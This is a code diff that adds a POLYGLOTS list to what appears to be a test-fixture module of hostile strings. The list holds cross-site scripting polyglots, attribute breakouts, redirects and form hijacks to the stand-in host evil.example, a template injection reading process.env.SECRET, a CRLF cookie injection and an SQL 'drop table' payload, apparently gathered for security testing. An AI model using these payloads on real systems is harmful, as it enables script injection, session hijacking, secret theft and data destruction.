@@ -192,3 +192,22 @@ export const HOSTILE_STRINGS: readonly string[] = [
 export const STORABLE_HOSTILE_STRINGS: readonly string[] = HOSTILE_STRINGS.filter(
   (text) => !text.includes('\0') && text.isWellFormed(),
 )
+
+/** Strings that break out of many contexts at once. */
+export const POLYGLOTS: readonly string[] = [
+  `"'></title></textarea></style></script><script>${RUN}</script>`,
+  `'"--><svg/onload=${RUN}>`,
+  `"'\`><img src=x onerror=${RUN}>`,
+  `javascript:/*--></title></style></textarea></script><svg onload="${RUN}">*/${RUN}`,
+  `</script><script>${RUN}//`,
+  `\u2028\u2029</script><!--<script>${RUN}`,
+  `]]>--><iframe srcdoc="<script>parent.${RAN}=1</script>">`,
+  `" autofocus onfocus=${RUN} x="`,
+  `' formaction='//evil.example`,
+  `<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">`,
+  `<template shadowrootmode=open><style>*{display:none}</style><script>${RUN}</script></template>`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;&#60;img src=x onerror=${RUN}&#62;`,
+  `{{constructor.constructor("${RUN}")()}}\${process.env.SECRET}<%= 7*7 %>`,
+  `x\r\nSet-Cookie: __session=1\r\n\r\n<script>${RUN}</script>`,
+  `\u202E\u200B<ScRiPt>${RUN}</sCrIpT >'); drop table clients; --`,
+]
